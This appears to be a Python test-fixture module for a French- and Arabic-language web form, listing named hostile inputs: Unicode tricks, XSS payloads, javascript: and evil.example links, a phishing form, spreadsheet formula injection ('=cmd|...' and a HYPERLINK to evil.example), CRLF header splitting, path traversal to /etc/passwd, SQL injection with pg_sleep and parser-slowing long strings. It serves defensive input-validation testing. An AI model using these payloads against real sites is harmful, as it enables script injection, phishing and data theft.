"""One corpus of hostile strings, for every test that takes a text from outside.

Numbers are those of the bad-input catalogue; each string has a name, so that a failure says which one.
Long ones are built when asked for, with `too_long`.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One bad input: its number in the catalogue, what it is, and the text itself."""

    number: int
    name: str
    text: str

    def __str__(self) -> str:
        return f"{self.number}-{self.name}"


UNICODE = (
    Hostile(1, "right-to-left override", "Titre \u202egpj.exe"),
    Hostile(2, "unclosed isolate", "Une idée \u2067pour l’eau"),
    Hostile(3, "marks at the ends", "\u200f مقترح \u200f"),
    Hostile(4, "zero width name", "\u200b" * 15),
    Hostile(5, "hangul filler", "\u3164"),
    Hostile(6, "word joiner", "\u2060\u2060"),
    Hostile(7, "nul", "avant\x00après"),
    Hostile(8, "vertical tab and SOH", "avant\x0baprès\x01"),
    Hostile(9, "noncharacter", "avant\ufffeaprès\uffff"),
    Hostile(10, "lone surrogate", "avant\ud800après"),
    Hostile(11, "emoji of four bytes", "Une idée 💧 pour l’eau"),
    Hostile(12, "family emoji", "Une idée 👨‍👩‍👧‍👦 pour la famille"),
    Hostile(13, "flag", "Le Maroc 🇲🇦 ouvert"),
    Hostile(14, "zalgo", "Z" + "\u0310\u0352\u0334\u0323" * 50 + "algo"),
    Hostile(15, "decomposed accents", "E\u0301cole nume\u0301rique"),
    Hostile(16, "presentation forms", "ﻣﻘﺘﺮﺡ ﻣﻮﺍﻃﻦ"),
    Hostile(17, "vocalised", "تَكْوِينُ الْمُدَرِّسِينَ"),
    Hostile(18, "tatweel", "الصـــحة للجميع"),
    Hostile(19, "joiner inside a word", "می\u200cخواهم خدمة"),
    Hostile(20, "tifinagh", "ⴰⵎⴰⵏ ⴷ ⵜⵓⴷⵔⵜ"),
    Hostile(21, "cyrillic in an address", "аdmin@gov.ma"),
    Hostile(22, "mixed scripts", "Мinistère de l’Intérieur"),
    Hostile(23, "persian letters", "کتاب مفتوح"),
)

# Texts nothing of which can be seen: a form must refuse them.
INVISIBLE = tuple(item for item in UNICODE if item.number in {4, 5, 6})

MARKUP = (
    Hostile(34, "script", "<script>alert(1)</script>"),
    Hostile(34, "script closing a page", "</textarea></title></style><script>alert(1)</script>"),
    Hostile(35, "svg onload", "<svg onload=alert(1)>"),
    Hostile(35, "svg without spaces", "<svg/onload=alert(1)//"),
    Hostile(36, "img onerror", "<img src=x onerror=alert(1)>"),
    Hostile(36, "attribute breaking out", '" onmouseover="alert(1)" x="'),
    Hostile(36, "attribute breaking out, single", "' onfocus='alert(1)' autofocus='"),
    Hostile(37, "mutation by svg style", '<svg><p><style><a id="</style><img src=x onerror=alert(1)>">'),
    Hostile(37, "mutation by math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Hostile(38, "noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Hostile(39, "entity tab in a scheme", "[x](jav&#x09;ascript:alert(1))"),
    Hostile(39, "entity tab in an href", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    Hostile(40, "newline in a scheme", '<a href="java\nscript:alert(1)">x</a>'),
    Hostile(40, "markdown javascript", "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>"),
    Hostile(41, "override before a scheme", "[x](\u202ejavascript:alert(1))"),
    Hostile(42, "data address", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    Hostile(43, "no scheme", "[x](//evil.example) //evil.example"),
    Hostile(43, "user name before the host", "[x](https://www.gov.ma@evil.example/)"),
    Hostile(43, "backslashes", "[x](https:\\\\evil.example) [y](/\\evil.example)"),
    Hostile(44, "phishing form", "<form action=https://evil.example><input name=password><button>OK</button></form>"),
    Hostile(45, "fixed position", "<div style=position:fixed;inset:0>x</div>"),
    Hostile(46, "imported style", "<style>@import 'https://evil.example/x.css';</style>"),
    Hostile(46, "frames and objects", "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>"),
    Hostile(46, "base and meta", "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>"),
    Hostile(47, "templates", "{{7*7}} ${7} #{7} %s %(x)s {0.__class__} {% raw %} <%= 7 %>"),
    Hostile(48, "comparisons", "2 < 3 & a>b &lt; &amp;"),
    Hostile(48, "comment and cdata", "<!-- --!> <![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?>"),
)

FORMULAS = (
    Hostile(87, "command", "=cmd|'/C calc'!A0"),
    Hostile(87, "hyperlink", '=HYPERLINK("https://evil.example","x")'),
    Hostile(87, "plus", "+33 1 23 45 67 89"),
    Hostile(87, "minus in Arabic", "-اقتراح"),
    Hostile(87, "at in Arabic", "@ع"),
    Hostile(87, "full width", "＝1+1"),
    Hostile(87, "tab before", "\t=1+1"),
    Hostile(87, "carriage return before", "\r=1+1"),
)

HEADERS = (
    Hostile(61, "header split", "x\r\nSet-Cookie: a=b"),
    Hostile(61, "mail header", "Sujet\nBcc: victim@example.org"),
)

PARAMETERS = (
    Hostile(49, "zero", "0"),
    Hostile(49, "negative", "-1"),
    Hostile(50, "25 digits", "9" * 25),
    Hostile(51, "two to the eighty", str(2**80)),
    Hostile(52, "arabic digit", "١"),
    Hostile(53, "underscore", "1_0"),
    Hostile(53, "exponent", "1e3"),
    Hostile(54, "many", "100000"),
    Hostile(55, "unknown language", "xx"),
    Hostile(55, "path as language", "../../etc"),
    Hostile(55, "long language", "x" * 3000),
    Hostile(58, "bad bytes", "%ff%fe"),
    Hostile(59, "nul", "\x00"),
    Hostile(60, "path", "..%2f..%2fetc%2fpasswd"),
    Hostile(63, "wildcards", "%%%_"),
    Hostile(66, "not a number", "NaN"),
    Hostile(67, "signalling", "sNaN"),
    Hostile(68, "arabic decimal", "٣٫٥"),
    Hostile(1, "quote and sleep", "1'; SELECT pg_sleep(5)--"),
)

DATES = (
    Hostile(69, "no such day", "31/02/2020"),
    Hostile(69, "zeros", "0000-00-00"),
    Hostile(69, "far year", "01/01/99999"),
    Hostile(70, "last day of all", "31/12/9999"),
)

LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:x",
    "file:///etc/passwd",
    "mailto:a@b.ma",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "https:///evil.example",
    "http://",
    "https://.",
    "https://www.gov.ma@evil.example/",
    "https://www.gov.ma%40evil.example/",
    "https://\u200bevil.example/",
    "https://[::1",
    "https://a.ma:99999999/",
    "https://a.ma/\u202e",
    "https://a.ma/a b",
    "https://" + "a" * 3000 + ".ma",
    "",
)

TEXTS = (*UNICODE, *MARKUP, *FORMULAS, *HEADERS)


def too_long(length: int = 1_000_000) -> tuple[Hostile, ...]:
    """Return texts of `length` characters that make parsers slow: none may cost more than a second."""

    def fill(unit: str) -> str:
        return (unit * (length // len(unit) + 1))[:length]

    return (
        Hostile(24, "words", fill("une idée pour l’eau ")),
        Hostile(25, "less than", fill("<")),
        Hostile(25, "ampersands", fill("&")),
        Hostile(26, "nested tags", fill("<strong>")),
        Hostile(26, "nested quotes", fill(">")),
        Hostile(26, "nested quotes with spaces", fill("> ")),
        Hostile(26, "nested lists", fill("- ")),
        Hostile(26, "brackets", fill("[")),
        Hostile(26, "unfinished links", fill("[](")),
        Hostile(26, "links", fill("[a](http://x.ma) ")),
        Hostile(26, "bare links", fill("http://x.ma ")),
        Hostile(26, "schemes", fill("http://")),
        Hostile(26, "stars", fill("*a ")),
        Hostile(26, "many stars", fill("*")),
        Hostile(26, "mixed stars", fill("**a *b")),
        Hostile(26, "backticks", fill("`a``")),
        Hostile(26, "quotes", fill('"')),
        Hostile(26, "unfinished tags", fill("<a ")),
        Hostile(26, "unfinished comments", fill("<!--")),
        Hostile(26, "headings", fill("# a\n")),
        Hostile(26, "lines", fill("a\n")),
        Hostile(26, "blank lines", fill("\n")),
        Hostile(27, "one word", fill("a")),
    )
